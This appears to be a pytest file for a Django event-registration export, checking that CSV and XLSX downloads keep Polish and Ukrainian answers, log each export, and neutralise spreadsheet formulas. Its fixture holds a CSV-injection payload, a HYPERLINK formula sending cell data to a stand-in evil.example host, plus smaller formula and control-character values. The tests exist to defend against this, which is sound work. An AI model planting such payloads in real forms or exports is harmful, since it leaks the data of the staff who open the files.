"""Staff download an event's registrations as CSV and XLSX: every person with their answers,
readable by Excel in Polish and Ukrainian, and no visitor's text ever runs as a formula."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import translation
from django.utils.text import capfirst
from django.utils.translation import gettext
from openpyxl import load_workbook
from wagtail.users.models import UserProfile

from core.dates import WARSAW
from events.choices import AccessAction, RegistrationStatus
from events.exports import neutralise
from events.models import Registration, RegistrationAccessLog
from tests.events.helpers import add_event, add_questions, in_days, register
from tests.utils import make_staff

pytestmark = pytest.mark.django_db

HEADER = [
    "Name",
    "E-mail",
    "Status",
    "Language",
    "Registered at",
    "Consent version",
    "Dieta",
    "Skąd wiesz o wydarzeniu?",
]


@pytest.fixture
def registrar_a(org_a):
    """A registrations group member who uses the admin in English."""
    user = make_staff(org_a, "registrations")
    profile = UserProfile.get_for_user(user)
    profile.preferred_language = "en"
    profile.save()
    return user


@pytest.fixture
def webinar(index_a):
    event = add_event(
        index_a,
        "Webinar: legalizacja pobytu",
        in_days(7, 17, 30),
        registration_mode="form",
        capacity=50,
        slug="webinar-legalizacja",
    )
    add_questions(event, "Dieta", "Skąd wiesz o wydarzeniu?")
    registered = [
        register(
            event,
            "Anna Nowak",
            "anna@example.org",
            dieta="wegetariańska",
            skad_wiesz_o_wydarzeniu="Facebook",
        ),
        register(
            event,
            "Олена Коваленко",
            "olena@example.org",
            language="uk",
            dieta="без глютену",
            skad_wiesz_o_wydarzeniu="Від подруги",
        ),
        # What an attacker types into the form, hoping staff open it in Excel.
        register(
            event,
            '=HYPERLINK("https://evil.example/?"&A1,"Kliknij")',
            "mallory@example.org",
            RegistrationStatus.WAITING,
            dieta="+48 600 100 200",
            skad_wiesz_o_wydarzeniu="@SUM(1+1)",
        ),
        register(
            event,
            "-2+3",
            "tab@example.org",
            RegistrationStatus.CANCELLED,
            dieta="\tukryte",
            skad_wiesz_o_wydarzeniu="\rpowrót",
        ),
    ]
    moment = datetime.datetime(2030, 12, 1, 18, 5, tzinfo=WARSAW)
    Registration.objects.filter(pk__in=[r.pk for r in registered]).update(created_at=moment)
    return event


def export(client, user, event, extension):
    client.force_login(user)
    return client.get(reverse(f"event_registrations:export_{extension}", args=[event.pk]))


def csv_rows(response):
    content = response.content
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM Excel reads UTF-8 by
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def xlsx_rows(response):
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook.active
    return [[cell.value for cell in row] for row in sheet.iter_rows()], sheet


def test_csv_holds_every_registration_with_answers_in_utf8_with_bom(client, registrar_a, webinar):
    response = export(client, registrar_a, webinar, "csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="registrations-webinar-legalizacja.csv"'
    )
    assert "no-store" in response["Cache-Control"]
    rows = csv_rows(response)
    assert rows[0] == HEADER
    assert rows[1] == [
        "Anna Nowak",
        "anna@example.org",
        "Confirmed",
        "Polski",
        "2030-12-01 18:05",
        "1",
        "wegetariańska",
        "Facebook",
    ]
    assert rows[2][:4] == ["Олена Коваленко", "olena@example.org", "Confirmed", "Українська"]
    assert rows[2][6:] == ["без глютену", "Від подруги"]
    assert len(rows) == 5


def test_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(client, registrar_a, webinar):
    rows = csv_rows(export(client, registrar_a, webinar, "csv"))

    mallory, tab = rows[3], rows[4]
    assert mallory[0] == '\'=HYPERLINK("https://evil.example/?"&A1,"Kliknij")'
    assert mallory[2] == "On the waiting list"
    assert mallory[6:] == ["'+48 600 100 200", "'@SUM(1+1)"]
    assert tab[0] == "'-2+3"
    assert tab[6:] == ["'\tukryte", "'\rpowrót"]
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
    )


def test_xlsx_holds_every_registration_with_answers_and_the_registration_time(
    client, registrar_a, webinar
):
    response = export(client, registrar_a, webinar, "xlsx")

    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"].endswith('registrations-webinar-legalizacja.xlsx"')
    rows, sheet = xlsx_rows(response)
    assert sheet.title == "Webinar legalizacja pobytu"  # ":" is not allowed in a sheet's name
    assert rows[0] == HEADER
    assert rows[1] == [
        "Anna Nowak",
        "anna@example.org",
        "Confirmed",
        "Polski",
        datetime.datetime(2030, 12, 1, 18, 5),  # Warsaw time, as staff read it
        "1",
        "wegetariańska",
        "Facebook",
    ]
    assert rows[2][0] == "Олена Коваленко"
    assert rows[2][6:] == ["без глютену", "Від подруги"]
    assert len(rows) == 5


def test_xlsx_has_no_formula_cells_only_neutralised_text(client, registrar_a, webinar):
    rows, sheet = xlsx_rows(export(client, registrar_a, webinar, "xlsx"))

    assert rows[3][0] == '\'=HYPERLINK("https://evil.example/?"&A1,"Kliknij")'
    assert rows[3][6:] == ["'+48 600 100 200", "'@SUM(1+1)"]
    assert rows[4][0] == "'-2+3"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_xlsx_leaves_out_control_characters_excel_cannot_hold(client, registrar_a, webinar):
    # (NUL never gets this far: forms refuse it and PostgreSQL cannot store it.)
    register(webinar, "Zofia\x07\x1b Bell", "zofia@example.org")

    rows, _sheet = xlsx_rows(export(client, registrar_a, webinar, "xlsx"))

    assert rows[-1][0] == "Zofia Bell"


@pytest.mark.parametrize(
    ("extension", "action"), [("csv", AccessAction.EXPORT_CSV), ("xlsx", AccessAction.EXPORT_XLSX)]
)
def test_every_export_is_logged_with_the_number_of_rows(
    client, registrar_a, webinar, extension, action
):
    export(client, registrar_a, webinar, extension)

    entry = RegistrationAccessLog.objects.get(event=webinar)
    assert (entry.user, entry.username, entry.action, entry.rows) == (
        registrar_a,
        "alfa-registrations",
        action,
        4,
    )
    assert entry.event_title == "Webinar: legalizacja pobytu"


def test_an_event_without_registrations_exports_the_header_only(client, registrar_a, index_a):
    event = add_event(index_a, "Pusty", in_days(3), registration_mode="form", slug="pusty")
    add_questions(event, "Dieta")

    rows = csv_rows(export(client, registrar_a, event, "csv"))
    xlsx, _sheet = xlsx_rows(export(client, registrar_a, event, "xlsx"))

    assert rows == [HEADER[:6] + ["Dieta"]]
    assert xlsx == [HEADER[:6] + ["Dieta"]]


def test_polish_admin_gets_polish_column_titles(client, org_a, webinar):
    user = make_staff(org_a, "registrations", username="polska-rejestracja")

    rows = csv_rows(export(client, user, webinar, "csv"))

    with translation.override("pl"):
        expected = [gettext("Name"), gettext("E-mail"), capfirst(gettext("status"))]
    assert rows[0][:3] == expected == ["Imię i nazwisko", "E-mail", "Status"]
    assert rows[0][6:] == ["Dieta", "Skąd wiesz o wydarzeniu?"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+48 600", "'+48 600"),
        ("-5", "'-5"),
        ("@home", "'@home"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Anna", "Anna"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_neutralise(text, expected):
    assert neutralise(text) == expected
